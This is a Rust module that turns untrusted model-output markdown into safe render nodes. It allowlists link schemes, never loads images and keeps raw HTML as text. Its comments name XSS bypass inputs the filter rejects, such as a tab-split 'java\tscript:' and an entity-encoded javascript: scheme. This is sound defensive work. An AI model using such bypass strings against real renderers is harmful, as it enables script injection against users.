//! Markdown to a small tree of safe nodes, for rendering untrusted model output.
//!
//! Model output is hostile input. The UI turns this tree into DOM elements and text
//! nodes, one node at a time, and never assigns an HTML string. The tree guarantees:
//!
//! - Raw HTML is never interpreted: `<script>` comes out as the literal text `<script>`.
//! - Every link target went through [`SafeUrl::new`] (the same check as [`safe_href`]),
//!   which allows only `http://`, `https://` and `mailto:`. Any other target leaves the
//!   link text without a link (`href: None`).
//! - Images are never loaded (an image URL can carry data out): `![alt](url)` becomes
//!   [`Inline::ImagePlaceholder`], which the UI shows as text.
//! - Any input parses without panicking, in roughly linear time, and containers nest at
//!   most [`MAX_DEPTH`] deep; deeper markers stay literal text.
//!
//! Supported: ATX and setext headings, paragraphs, bullet and ordered lists nested by
//! indentation (an item's content column is set by its marker's width, as in CommonMark),
//! fenced code (``` and ~~~; escapes and entities in the info string are decoded), block
//! quotes, thematic breaks, GFM pipe tables; `**strong**`, `*em*`/`_em_`, `~~strike~~`, code
//! spans, inline links, reference links (`[text][label]`, `[label][]`, `[label]`) and their
//! definitions (`[label]: url "title"`, removed from the output, labels matched
//! case-insensitively, titles dropped), `<autolinks>`, bare http(s) URLs and e-mail addresses,
//! backslash escapes, HTML entities (decimal, hex and 363 names: see the entities module),
//! hard line breaks and numeric citations (`[1]`, `[2, 3]`; a defined label wins over a
//! citation).
//!
//! Not supported: indented code blocks, HTML blocks (shown as text), footnotes, task-list
//! checkboxes and table alignment. How close this is to CommonMark: docs/benchmarks.md,
//! "Markdown beside pulldown-cmark".

use std::collections::HashMap;

mod entities;

/// How deep block containers (quotes, list items) and inline spans (emphasis, links)
/// may nest. Deeper block markers stay literal text; deeper inline spans are flattened
/// into their parent.
pub const MAX_DEPTH: usize = 16;
/// Header rows wider than this are not tables (bounds the work of padding short rows).
const MAX_TABLE_COLUMNS: usize = 128;
/// Nested parentheses allowed in a bare link destination.
const MAX_LINK_PARENS: usize = 32;
/// A bracket longer than this is never a citation (keeps `]` handling linear).
const MAX_CITATION_LEN: usize = 64;
const TAB_STOP: usize = 4;

/// A block-level node.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Block {
    /// `level` is 1 to 6.
    Heading {
        level: u8,
        inlines: Vec<Inline>,
    },
    Paragraph(Vec<Inline>),
    /// Each item is a list of blocks (usually one paragraph, maybe a nested list).
    /// `start` is the first number of an ordered list (1 for bullet lists).
    List {
        ordered: bool,
        start: u64,
        items: Vec<Vec<Block>>,
    },
    /// `lang` is the first word of the fence's info string, if any.
    CodeBlock {
        lang: Option<String>,
        code: String,
    },
    Quote(Vec<Block>),
    Rule,
    /// Every row has exactly as many cells as the header.
    Table {
        header: Vec<Vec<Inline>>,
        rows: Vec<Vec<Vec<Inline>>>,
    },
}

/// An inline node. Text is always plain text, to be shown in a text node.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Inline {
    /// Literal text. A soft line break inside a paragraph is kept as `\n` (render it
    /// as white space, or as a break with `white-space: pre-line`).
    Text(String),
    Strong(Vec<Inline>),
    Emphasis(Vec<Inline>),
    Strike(Vec<Inline>),
    Code(String),
    /// `href` is None when the target was unsafe or relative: show the children only.
    /// Children never contain another link or a citation (those become text).
    Link {
        href: Option<SafeUrl>,
        children: Vec<Inline>,
    },
    /// A markdown image. Never fetch it: show the alt text (for example `[image: alt]`),
    /// at most offering `href` as an ordinary link.
    ImagePlaceholder {
        alt: String,
        href: Option<SafeUrl>,
    },
    /// A hard line break (two trailing spaces or a trailing backslash).
    LineBreak,
    /// `[n]`: a reference to the n-th retrieved passage (n >= 1).
    Citation(u32),
}

/// A link target that passed [`safe_href`]: it starts with `http://`, `https://` or
/// `mailto:` and contains no ASCII control or bidirectional-override characters.
/// The only way to make one is [`SafeUrl::new`].
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct SafeUrl(String);

impl SafeUrl {
    /// Checks `raw` as described at [`safe_href`].
    pub fn new(raw: &str) -> Option<SafeUrl> {
        // Browsers drop tab and newline anywhere in a URL and trim other C0 controls, so
        // `java\tscript:` would run as `javascript:`. Removing every ASCII control
        // before looking at the scheme makes the check see what the browser sees.
        let cleaned: String = raw.chars().filter(|c| !c.is_ascii_control()).collect();
        let url = cleaned.trim();
        if url.chars().any(is_bidi_control) {
            return None;
        }
        let colon = url.find(':')?;
        let scheme = url.get(..colon)?.to_ascii_lowercase();
        let rest = url.get(colon + 1..)?;
        let ok = match scheme.as_str() {
            "http" | "https" => rest.len() > 2 && rest.starts_with("//"),
            "mailto" => !rest.is_empty(),
            _ => false,
        };
        ok.then(|| SafeUrl(format!("{scheme}:{rest}")))
    }

    pub fn as_str(&self) -> &str {
        &self.0
    }

    pub fn into_string(self) -> String {
        self.0
    }
}

impl std::fmt::Display for SafeUrl {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.0)
    }
}

/// The link target to use for `raw`, or None if it must not become a link.
///
/// Allows only `http://…`, `https://…` and `mailto:…`, compared case-insensitively after
/// removing ASCII control characters (tab, newline, NUL, …) anywhere and trimming
/// whitespace. Everything else is rejected: `javascript:`, `data:`, `vbscript:`,
/// `file:`, relative URLs, entity-encoded schemes (`&#106;avascript:`) and URLs with
/// bidirectional-override characters. The scheme of the result is lower case.
pub fn safe_href(raw: &str) -> Option<String> {
    SafeUrl::new(raw).map(SafeUrl::into_string)
}

fn is_bidi_control(c: char) -> bool {
    matches!(c, '\u{200e}' | '\u{200f}' | '\u{061c}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// The text of some inlines without formatting: citations as `[n]`, line breaks as
/// newlines, images as their alt text.
pub fn plain_text(inlines: &[Inline]) -> String {
    let mut out = String::new();
    collect_text(inlines, &mut out);
    out
}

fn collect_text(inlines: &[Inline], out: &mut String) {
    for inline in inlines {
        match inline {
            Inline::Text(s) | Inline::Code(s) => out.push_str(s),
            Inline::Strong(c) | Inline::Emphasis(c) | Inline::Strike(c) => collect_text(c, out),
            Inline::Link { children, .. } => collect_text(children, out),
            Inline::ImagePlaceholder { alt, .. } => out.push_str(alt),
            Inline::LineBreak => out.push('\n'),
            Inline::Citation(n) => out.push_str(&format!("[{n}]")),
        }
    }
}

/// A one-glance preview of markdown text (a block card) without its loudest marks: heading
/// hashes, quote markers, and `**` and backticks that come in pairs on a line. Everything else
/// stays as written: `__` and single `*` or `_` (names like `__proto__` or `customer_email`,
/// bullets), and an unpaired `**` (`2**8`). Far lighter than [`parse`], which the card, drawn
/// at start, would otherwise pull into the first download.
pub fn without_marks(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for (i, line) in text.split('\n').enumerate() {
        if i > 0 {
            out.push('\n');
        }
        let indent = line.len() - line.trim_start().len();
        let rest = &line[indent..];
        let hashes = rest.bytes().take_while(|&b| b == b'#').count();
        let rest = if (1..=6).contains(&hashes) && rest[hashes..].starts_with(' ') {
            rest[hashes..].trim_start()
        } else if let Some(quoted) = rest.strip_prefix('>') {
            quoted.strip_prefix(' ').unwrap_or(quoted)
        } else {
            rest
        };
        out.push_str(&line[..indent]);
        let paired = |mark: &str| {
            let n = rest.matches(mark).count();
            n >= 2 && n % 2 == 0
        };
        let (bold, code) = (paired("**"), paired("`"));
        let rest = if bold { rest.replace("**", "") } else { rest.to_string() };
        out.push_str(&if code { rest.replace('`', "") } else { rest });
    }
    out
}

/// Parses markdown into blocks. Never panics; roughly linear in the input length.
pub fn parse(text: &str) -> Vec<Block> {
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    let mut clean = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\0' => clean.push('\u{fffd}'),
            '\r' => {
                if chars.peek() == Some(&'\n') {
                    chars.next();
                }
                clean.push('\n');
            }
            _ => clean.push(c),
        }
    }
    let mut lines: Vec<String> = clean.split('\n').map(str::to_owned).collect();
    // A final newline ends the last line; it does not start an empty one (which an
    // unterminated code fence would keep).
    if lines.len() > 1 && lines.last().is_some_and(String::is_empty) {
        lines.pop();
    }
    let mut refs = Refs::default();
    // Link reference definitions apply to the whole document, also to links before them: a
    // first pass (blocks only, no inlines) collects them when there can be any.
    if clean.contains("]:") {
        refs.collecting = true;
        parse_blocks(&lines, 0, &mut refs);
        refs.collecting = false;
    }
    parse_blocks(&lines, 0, &mut refs)
}

// ---------------------------------------------------------------------------------
// Line helpers. Columns count a tab as reaching the next multiple of four.

fn rest(s: &str, from: usize) -> &str {
    s.get(from..).unwrap_or("")
}

fn slice(s: &str, from: usize, to: usize) -> &str {
    s.get(from..to).unwrap_or("")
}

/// Columns of leading whitespace and the byte offset where it ends.
fn leading_ws(line: &str) -> (usize, usize) {
    let mut col = 0;
    for (i, b) in line.bytes().enumerate() {
        match b {
            b' ' => col += 1,
            b'\t' => col += TAB_STOP - col % TAB_STOP,
            _ => return (col, i),
        }
    }
    (col, line.len())
}

fn indent_of(line: &str) -> usize {
    leading_ws(line).0
}

fn is_blank(line: &str) -> bool {
    line.bytes().all(|b| b == b' ' || b == b'\t')
}

/// `line` without its first `cols` columns of whitespace (a tab that straddles the cut
/// leaves spaces behind).
fn strip_cols(line: &str, cols: usize) -> String {
    let mut col = 0;
    for (i, b) in line.bytes().enumerate() {
        if col >= cols {
            return format!("{}{}", " ".repeat(col - cols), rest(line, i));
        }
        match b {
            b' ' => col += 1,
            b'\t' => col += TAB_STOP - col % TAB_STOP,
            _ => return rest(line, i).to_owned(),
        }
    }
    " ".repeat(col.saturating_sub(cols))
}

struct Fence {
    ch: u8,
    len: usize,
    indent: usize,
    info: String,
}

fn fence_open(line: &str) -> Option<Fence> {
    let (indent, start) = leading_ws(line);
    if indent > 3 {
        return None;
    }
    let body = rest(line, start);
    let ch = *body.as_bytes().first()?;
    if ch != b'`' && ch != b'~' {
        return None;
    }
    let len = body.bytes().take_while(|&b| b == ch).count();
    let info = rest(body, len).trim();
    if len < 3 || (ch == b'`' && info.contains('`')) {
        return None;
    }
    Some(Fence { ch, len, indent, info: info.to_owned() })
}

fn is_fence_close(line: &str, fence: &Fence) -> bool {
    let (indent, start) = leading_ws(line);
    let body = rest(line, start);
    let len = body.bytes().take_while(|&b| b == fence.ch).count();
    indent <= 3 && len >= fence.len && is_blank(rest(body, len))
}

/// Follows fences through the content lines of a container, to know whether a line
/// could be continued lazily (only paragraph text can).
#[derive(Default)]
struct FenceState(Option<Fence>);

impl FenceState {
    /// Feeds one content line; true if it belongs to a fenced code block.
    fn feed(&mut self, line: &str) -> bool {
        match &self.0 {
            Some(fence) => {
                if is_fence_close(line, fence) {
                    self.0 = None;
                }
                true
            }
            None => {
                self.0 = fence_open(line);
                self.0.is_some()
            }
        }
    }

    /// Feeds a content line; true if a following line may continue it lazily.
    fn lazy_after(&mut self, line: &str) -> bool {
        let code = self.feed(line);
        !code && !is_blank(line) && atx_heading(line).is_none() && !is_thematic_break(line)
    }
}

fn atx_heading(line: &str) -> Option<(u8, &str)> {
    let (indent, start) = leading_ws(line);
    if indent > 3 {
        return None;
    }
    let body = rest(line, start);
    let hashes = body.bytes().take_while(|&b| b == b'#').count();
    let level = u8::try_from(hashes).ok().filter(|l| (1..=6).contains(l))?;
    let after = rest(body, hashes);
    if !(after.is_empty() || after.starts_with([' ', '\t'])) {
        return None;
    }
    let content = after.trim();
    let without_closing = content.trim_end_matches('#');
    let content = if without_closing.is_empty() {
        ""
    } else if without_closing.ends_with([' ', '\t']) {
        without_closing.trim_end()
    } else {
        content
    };
    Some((level, content))
}

fn is_thematic_break(line: &str) -> bool {
    let (indent, start) = leading_ws(line);
    let body = rest(line, start);
    let Some(&ch) = body.as_bytes().first() else {
        return false;
    };
    if indent > 3 || !matches!(ch, b'-' | b'*' | b'_') {
        return false;
    }
    let mut count = 0;
    for b in body.bytes() {
        if b == ch {
            count += 1;
        } else if b != b' ' && b != b'\t' {
            return false;
        }
    }
    count >= 3
}

fn setext_level(line: &str) -> Option<u8> {
    let (indent, start) = leading_ws(line);
    let body = rest(line, start).trim_end();
    let ch = *body.as_bytes().first()?;
    if indent > 3 || !body.bytes().all(|b| b == ch) {
        return None;
    }
    match ch {
        b'=' => Some(1),
        b'-' => Some(2),
        _ => None,
    }
}

fn is_quote_start(line: &str) -> bool {
    let (indent, start) = leading_ws(line);
    indent <= 3 && rest(line, start).starts_with('>')
}

/// The content of a block-quote line (after `>` and one optional space).
fn quote_content(line: &str) -> Option<String> {
    let (indent, start) = leading_ws(line);
    if indent > 3 {
        return None;
    }
    let body = rest(line, start).strip_prefix('>')?;
    Some(match body.as_bytes().first() {
        Some(b' ') => rest(body, 1).to_owned(),
        // A tab after `>` is the optional space plus two columns of indentation.
        Some(b'\t') => format!("  {}", rest(body, 1)),
        _ => body.to_owned(),
    })
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum ListKind {
    Bullet(u8),
    Ordered(u8),
}

struct ListMarker {
    kind: ListKind,
    number: u64,
    /// Column where the item's content starts; continuation lines are indented this far.
    content_col: usize,
    /// The rest of the marker's line.
    content: String,
    empty: bool,
}

impl ListMarker {
    fn can_interrupt_paragraph(&self) -> bool {
        !self.empty && (matches!(self.kind, ListKind::Bullet(_)) || self.number == 1)
    }
}

fn list_marker(line: &str, max_indent: usize) -> Option<ListMarker> {
    let (indent, start) = leading_ws(line);
    if indent > max_indent || is_thematic_break(line) {
        return None;
    }
    let body = rest(line, start);
    let bytes = body.as_bytes();
    let first = *bytes.first()?;
    let (kind, number, marker_len) = if matches!(first, b'-' | b'+' | b'*') {
        (ListKind::Bullet(first), 1, 1)
    } else {
        let digits = bytes.iter().take_while(|b| b.is_ascii_digit()).count();
        if digits == 0 || digits > 9 {
            return None;
        }
        let delim = *bytes.get(digits)?;
        if delim != b'.' && delim != b')' {
            return None;
        }
        let number = body.get(..digits)?.parse::<u64>().ok()?;
        (ListKind::Ordered(delim), number, digits + 1)
    };
    let after = rest(body, marker_len);
    let marker_col = indent + marker_len;
    let mut col = marker_col;
    let mut offset = 0;
    for b in after.bytes() {
        match b {
            b' ' => col += 1,
            b'\t' => col += TAB_STOP - col % TAB_STOP,
            _ => break,
        }
        offset += 1;
    }
    let text = rest(after, offset);
    let spaces = col - marker_col;
    let (content_col, content, empty) = if text.is_empty() {
        (marker_col + 1, String::new(), true)
    } else if spaces == 0 {
        return None;
    } else if spaces >= 5 {
        (marker_col + 1, format!("{}{text}", " ".repeat(spaces - 1)), false)
    } else {
        (col, text.to_owned(), false)
    };
    Some(ListMarker { kind, number, content_col, content, empty })
}

/// True if `line` starts a block that ends a paragraph (and so cannot continue one).
fn interrupts_paragraph(line: &str) -> bool {
    indent_of(line) < 4
        && (fence_open(line).is_some()
            || atx_heading(line).is_some()
            || is_thematic_break(line)
            || is_quote_start(line)
            || list_marker(line, 3).is_some_and(|m| m.can_interrupt_paragraph()))
}

// ---------------------------------------------------------------------------------
// Blocks

fn parse_blocks(lines: &[String], depth: usize, refs: &mut Refs) -> Vec<Block> {
    let nest = depth < MAX_DEPTH;
    let mut blocks = Vec::new();
    let mut para: Vec<&str> = Vec::new();
    let mut i = 0;
    while let Some(line) = lines.get(i) {
        if is_blank(line) {
            flush_paragraph(&mut para, &mut blocks, refs);
            i += 1;
            continue;
        }
        if indent_of(line) >= 4 {
            // No indented code blocks: deeply indented lines are paragraph text.
            para.push(line);
            i += 1;
            continue;
        }
        if let Some(fence) = fence_open(line) {
            flush_paragraph(&mut para, &mut blocks, refs);
            let (block, next) = fenced_code(lines, i, fence);
            blocks.push(block);
            i = next;
            continue;
        }
        if let Some((level, content)) = atx_heading(line) {
            flush_paragraph(&mut para, &mut blocks, refs);
            blocks.push(Block::Heading { level, inlines: parse_inlines(content, refs) });
            i += 1;
            continue;
        }
        if !para.is_empty() {
            if let Some(level) = setext_level(line) {
                let text = paragraph_text(&para);
                let text = take_definitions(&text, refs);
                // Only definitions: the underline is not one (it starts a paragraph).
                if !text.is_empty() {
                    para.clear();
                    blocks.push(Block::Heading { level, inlines: parse_inlines(text, refs) });
                    i += 1;
                    continue;
                }
            }
        }
        if is_thematic_break(line) {
            flush_paragraph(&mut para, &mut blocks, refs);
            blocks.push(Block::Rule);
            i += 1;
            continue;
        }
        if nest && is_quote_start(line) {
            flush_paragraph(&mut para, &mut blocks, refs);
            let (inner, next) = collect_quote(lines, i);
            blocks.push(Block::Quote(parse_blocks(&inner, depth + 1, refs)));
            i = next;
            continue;
        }
        if nest {
            if let Some(marker) = list_marker(line, 3) {
                if para.is_empty() || marker.can_interrupt_paragraph() {
                    flush_paragraph(&mut para, &mut blocks, refs);
                    let (block, next) = parse_list(lines, i, marker, depth, refs);
                    blocks.push(block);
                    i = next;
                    continue;
                }
            }
        }
        if let Some(header) = table_start(lines, i) {
            flush_paragraph(&mut para, &mut blocks, refs);
            let (block, next) = parse_table(lines, i, &header, refs);
            blocks.push(block);
            i = next;
            continue;
        }
        para.push(line);
        i += 1;
    }
    flush_paragraph(&mut para, &mut blocks, refs);
    blocks
}

fn paragraph_text(lines: &[&str]) -> String {
    let joined: Vec<&str> = lines.iter().map(|l| l.trim_start()).collect();
    joined.join("\n").trim_end().to_owned()
}

fn flush_paragraph(para: &mut Vec<&str>, blocks: &mut Vec<Block>, refs: &mut Refs) {
    if para.is_empty() {
        return;
    }
    let text = paragraph_text(para);
    let inlines = parse_inlines(take_definitions(&text, refs), refs);
    para.clear();
    if !inlines.is_empty() {
        blocks.push(Block::Paragraph(inlines));
    }
}

/// A fenced code block opening at line `i`; an unterminated fence runs to the end.
fn fenced_code(lines: &[String], i: usize, fence: Fence) -> (Block, usize) {
    // Backslash escapes and entities are resolved in the info string, then its first word is
    // the language (CommonMark: "``` f&ouml;&ouml;" is "föö", "``` c\+\+" is "c++").
    let lang = unescape(&fence.info).split_whitespace().next().map(str::to_owned);
    let mut code = Vec::new();
    let mut j = i + 1;
    while let Some(line) = lines.get(j) {
        j += 1;
        if is_fence_close(line, &fence) {
            break;
        }
        code.push(strip_cols(line, fence.indent));
    }
    (Block::CodeBlock { lang, code: code.join("\n") }, j)
}

/// The content lines of the block quote starting at line `i`, with lazy continuation
/// lines, and the index of the first line after it.
fn collect_quote(lines: &[String], i: usize) -> (Vec<String>, usize) {
    let mut inner = Vec::new();
    let mut fences = FenceState::default();
    let mut lazy_ok = false;
    let mut j = i;
    while let Some(line) = lines.get(j) {
        if let Some(content) = quote_content(line) {
            lazy_ok = fences.lazy_after(&content);
            inner.push(content);
        } else if lazy_ok && !is_blank(line) && !interrupts_paragraph(line) {
            inner.push(lazy_line(line));
        } else {
            break;
        }
        j += 1;
    }
    (inner, j)
}

/// A lazy continuation line as paragraph text inside its container: it keeps an indent of 4 or
/// more (which makes it paragraph text there), and an `===` or `--` is escaped, since a lazy line never
/// underlines a setext heading.
fn lazy_line(line: &str) -> String {
    if indent_of(line) >= 4 {
        line.to_owned()
    } else if setext_level(line).is_some() {
        format!("\\{}", line.trim_start())
    } else {
        line.trim_start().to_owned()
    }
}

fn parse_list(lines: &[String], i: usize, first: ListMarker, depth: usize, refs: &mut Refs) -> (Block, usize) {
    let kind = first.kind;
    let ordered = matches!(kind, ListKind::Ordered(_));
    let start = if ordered { first.number } else { 1 };
    let mut items = Vec::new();
    let mut marker = first;
    let mut j = i + 1;
    loop {
        // The marker's width sets the item's content column (`10) foo` continues at column
        // 4, `-   foo` at 4, `- foo` at 2): a line belongs to the item only when it is
        // indented that far (or is a lazy paragraph continuation). A list marker left of it
        // ends the item, whether it starts a sibling, a new list or (indented 0-3) a sibling
        // of a nested list's parent: `1. a` then `  - b` is two lists, as in CommonMark.
        let content_col = marker.content_col;
        let starts_empty = marker.empty;
        let mut fences = FenceState::default();
        let mut lazy_ok = fences.lazy_after(&marker.content);
        let mut item = vec![std::mem::take(&mut marker.content)];
        let mut closed = false;
        while let Some(line) = lines.get(j) {
            let indent = indent_of(line);
            let content = if is_blank(line) {
                // An item can start with at most one blank line: `-` then a blank is empty
                // (the blank lines after it may still lead to a sibling item).
                closed |= starts_empty && item.len() == 1;
                String::new()
            } else if closed {
                break;
            } else if indent >= content_col {
                strip_cols(line, content_col)
            } else if list_marker(line, 3).is_some() {
                break;
            } else if lazy_ok && !interrupts_paragraph(line) {
                lazy_line(line)
            } else {
                break;
            };
            lazy_ok = fences.lazy_after(&content);
            item.push(content);
            j += 1;
        }
        while item.last().is_some_and(|l| is_blank(l)) {
            item.pop();
        }
        items.push(parse_blocks(&item, depth + 1, refs));
        match lines.get(j).and_then(|l| list_marker(l, 3)) {
            Some(next) if next.kind == kind => {
                marker = next;
                j += 1;
            }
            _ => break,
        }
    }
    (Block::List { ordered, start, items }, j)
}

fn split_row(line: &str) -> Vec<String> {
    let mut s = line.trim();
    if let Some(stripped) = s.strip_prefix('|') {
        s = stripped;
    }
    if s.ends_with('|') && !s.ends_with("\\|") {
        s = s.get(..s.len() - 1).unwrap_or(s);
    }
    let mut cells = Vec::new();
    let mut cell = String::new();
    let mut chars = s.chars();
    while let Some(c) = chars.next() {
        match c {
            '\\' => match chars.next() {
                Some('|') => cell.push('|'),
                Some(other) => {
                    cell.push('\\');
                    cell.push(other);
                }
                None => cell.push('\\'),
            },
            '|' => cells.push(std::mem::take(&mut cell).trim().to_owned()),
            _ => cell.push(c),
        }
    }
    cells.push(cell.trim().to_owned());
    cells
}

fn is_delimiter_cell(cell: &str) -> bool {
    let c = cell.strip_prefix(':').unwrap_or(cell);
    let c = c.strip_suffix(':').unwrap_or(c);
    !c.is_empty() && c.bytes().all(|b| b == b'-')
}

/// The header cells if line `i` starts a GFM table (a header row, then a delimiter row
/// with as many cells).
fn table_start(lines: &[String], i: usize) -> Option<Vec<String>> {
    let header = lines.get(i)?;
    let delimiter = lines.get(i + 1)?;
    if !header.contains('|') || !delimiter.contains('|') || indent_of(delimiter) > 3 {
        return None;
    }
    if delimiter.bytes().filter(|&b| b == b'|').count() > MAX_TABLE_COLUMNS + 1 {
        return None;
    }
    let delimiter_cells = split_row(delimiter);
    if delimiter_cells.len() > MAX_TABLE_COLUMNS || !delimiter_cells.iter().all(|c| is_delimiter_cell(c)) {
        return None;
    }
    let cells = split_row(header);
    (cells.len() == delimiter_cells.len()).then_some(cells)
}

fn parse_table(lines: &[String], i: usize, header: &[String], refs: &Refs) -> (Block, usize) {
    let width = header.len();
    let header: Vec<Vec<Inline>> = header.iter().map(|c| parse_inlines(c, refs)).collect();
    let mut rows = Vec::new();
    let mut j = i + 2;
    while let Some(line) = lines.get(j) {
        if is_blank(line) || interrupts_paragraph(line) {
            break;
        }
        let mut cells = split_row(line);
        cells.resize(width, String::new());
        rows.push(cells.iter().map(|c| parse_inlines(c, refs)).collect());
        j += 1;
    }
    (Block::Table { header, rows }, j)
}

// ---------------------------------------------------------------------------------
// Inlines: the CommonMark delimiter algorithm over a linked list of nodes in an arena,
// so wrapping a span in emphasis or a link never copies or shifts the nodes.

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Style {
    Strong,
    Emphasis,
    Strike,
}

enum Kind {
    Text(String),
    Code(String),
    LineBreak,
    Citation(u32),
    /// The children are the chain starting at `first`.
    Link {
        href: Option<SafeUrl>,
        first: Option<usize>,
    },
    Image {
        href: Option<SafeUrl>,
        first: Option<usize>,
    },
    Styled {
        style: Style,
        first: Option<usize>,
    },
}

struct Node {
    kind: Kind,
    prev: Option<usize>,
    next: Option<usize>,
}

/// A run of `*`, `_` or `~~` that may open or close emphasis; its text is `node`.
struct Delim {
    node: usize,
    ch: u8,
    count: usize,
    orig: usize,
    can_open: bool,
    can_close: bool,
}

/// A `[` or `![` waiting for its `]`.
struct Bracket {
    node: usize,
    image: bool,
    /// Delimiters from here on lie inside the brackets.
    delims_at: usize,
    /// Source offset just after the bracket.
    text_start: usize,
}

/// Start offsets of maximal backtick runs, by length, to find a code span's closing
/// run without rescanning the text for every opener.
struct BacktickIndex {
    runs: HashMap<usize, Vec<usize>>,
    cursor: HashMap<usize, usize>,
}

impl BacktickIndex {
    fn new(src: &str) -> Self {
        let mut runs: HashMap<usize, Vec<usize>> = HashMap::new();
        let bytes = src.as_bytes();
        let mut i = 0;
        while i < bytes.len() {
            if bytes.get(i) == Some(&b'`') {
                let len = bytes.get(i..).unwrap_or(&[]).iter().take_while(|&&b| b == b'`').count();
                runs.entry(len).or_default().push(i);
                i += len;
            } else {
                i += 1;
            }
        }
        BacktickIndex { runs, cursor: HashMap::new() }
    }

    /// The first run of exactly `len` backticks starting at or after `from`. Calls
    /// for the same length must come with increasing `from`.
    fn find(&mut self, len: usize, from: usize) -> Option<usize> {
        let starts = self.runs.get(&len)?;
        let cursor = self.cursor.entry(len).or_insert(0);
        while starts.get(*cursor).is_some_and(|&s| s < from) {
            *cursor += 1;
        }
        starts.get(*cursor).copied()
    }
}

fn parse_inlines(src: &str, refs: &Refs) -> Vec<Inline> {
    if refs.collecting {
        return Vec::new();
    }
    let mut parser = InlineParser {
        refs,
        src,
        pos: 0,
        nodes: Vec::new(),
        head: None,
        tail: None,
        pending: String::new(),
        delims: Vec::new(),
        brackets: Vec::new(),
        links_disabled_below: 0,
        backticks: None,
    };
    parser.run();
    parser.finish()
}

fn is_special(b: u8) -> bool {
    matches!(b, b'\\' | b'`' | b'*' | b'_' | b'~' | b'[' | b']' | b'!' | b'<' | b'&' | b'\n' | b'h' | b'H' | b'@')
}

fn is_punct(c: char) -> bool {
    c.is_ascii_punctuation() || (!c.is_ascii() && !c.is_alphanumeric() && !c.is_whitespace())
}

/// Whether a delimiter run between `before` and `after` is (left, right) flanking.
fn flanking(before: Option<char>, after: Option<char>) -> (bool, bool) {
    let ws = |c: Option<char>| c.is_none_or(char::is_whitespace);
    let punct = |c: Option<char>| c.is_some_and(is_punct);
    let left = !ws(after) && (!punct(after) || ws(before) || punct(before));
    let right = !ws(before) && (!punct(before) || ws(after) || punct(after));
    (left, right)
}

fn delim_key(d: &Delim) -> usize {
    let ch = match d.ch {
        b'*' => 0,
        b'_' => 1,
        _ => 2,
    };
    ch * 6 + usize::from(d.can_open) * 3 + d.orig % 3
}

fn can_match(opener: &Delim, closer: &Delim) -> bool {
    if opener.ch != closer.ch || !opener.can_open {
        return false;
    }
    // The "rule of three" keeps `*foo**bar*` from pairing the wrong runs.
    closer.ch == b'~'
        || !((opener.can_close || closer.can_open)
            && (opener.orig + closer.orig).is_multiple_of(3)
            && !(opener.orig.is_multiple_of(3) && closer.orig.is_multiple_of(3)))
}

/// The text of an HTML named character reference (`amp` for `&amp;`), from a compact table
/// (see the entities module: HTML 4's names plus the HTML 5 ones people use).
pub fn named_entity(name: &str) -> Option<&'static str> {
    entities::ENTITIES
        .binary_search_by(|(n, _)| n.cmp(&name))
        .ok()
        .and_then(|i| entities::ENTITIES.get(i))
        .map(|(_, text)| *text)
}

/// Decodes the entity at the start of `s` (`&amp;`, `&#65;`, `&#x42;`): its text and length.
fn decode_entity(s: &str) -> Option<(std::borrow::Cow<'static, str>, usize)> {
    let body = s.strip_prefix('&')?;
    let semi = body.bytes().take(33).position(|b| b == b';')?;
    let name = body.get(..semi)?;
    let text = if let Some(num) = name.strip_prefix('#') {
        let (digits, radix, max) = match num.strip_prefix(['x', 'X']) {
            Some(hex) => (hex, 16, 6),
            None => (num, 10, 7),
        };
        if digits.is_empty() || digits.len() > max || !digits.chars().all(|c| c.is_digit(radix)) {
            return None;
        }
        let value = u32::from_str_radix(digits, radix).ok()?;
        std::borrow::Cow::Owned(char::from_u32(value).filter(|&c| c != '\0').unwrap_or('\u{fffd}').to_string())
    } else {
        if name.is_empty() || !name.bytes().all(|b| b.is_ascii_alphanumeric()) {
            return None;
        }
        std::borrow::Cow::Borrowed(named_entity(name)?)
    };
    Some((text, semi + 2))
}

/// Resolves backslash escapes and entities (in link destinations).
fn unescape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut i = 0;
    while let Some(c) = rest(s, i).chars().next() {
        if c == '\\' {
            if let Some(&next) = s.as_bytes().get(i + 1).filter(|b| b.is_ascii_punctuation()) {
                out.push(char::from(next));
                i += 2;
                continue;
            }
        }
        if c == '&' {
            if let Some((decoded, len)) = decode_entity(rest(s, i)) {
                out.push_str(&decoded);
                i += len;
                continue;
            }
        }
        out.push(c);
        i += c.len_utf8();
    }
    out
}

fn skip_link_ws(bytes: &[u8], mut i: usize) -> usize {
    while bytes.get(i).is_some_and(|&b| b == b' ' || b == b'\t' || b == b'\n') {
        i += 1;
    }
    i
}

/// A link destination at `i`: `<…>` or a run without spaces or controls, with balanced
/// parentheses. Returns it unescaped, the offset after it, and whether it was empty and bare.
fn link_destination(src: &str, i: usize) -> Option<(String, usize, bool)> {
    let b = src.as_bytes();
    if b.get(i) == Some(&b'<') {
        let from = i + 1;
        let mut j = from;
        loop {
            match *b.get(j)? {
                b'>' => break,
                b'\n' | b'<' => return None,
                b'\\' if b.get(j + 1).is_some_and(u8::is_ascii_punctuation) => j += 2,
                _ => j += 1,
            }
        }
        return Some((unescape(slice(src, from, j)), j + 1, false));
    }
    let mut parens = 0usize;
    let mut j = i;
    while let Some(&c) = b.get(j) {
        match c {
            b'\\' if b.get(j + 1).is_some_and(u8::is_ascii_punctuation) => j += 2,
            b'(' => {
                parens += 1;
                if parens > MAX_LINK_PARENS {
                    return None;
                }
                j += 1;
            }
            b')' => {
                if parens == 0 {
                    break;
                }
                parens -= 1;
                j += 1;
            }
            c if c <= b' ' || c == 0x7f => break,
            _ => j += 1,
        }
    }
    if parens != 0 {
        return None;
    }
    Some((unescape(slice(src, i, j)), j, j == i))
}

/// A link title at `i` (`"…"`, `'…'` or `(…)`): the offset after its closing quote.
fn link_title(src: &str, i: usize) -> Option<usize> {
    let b = src.as_bytes();
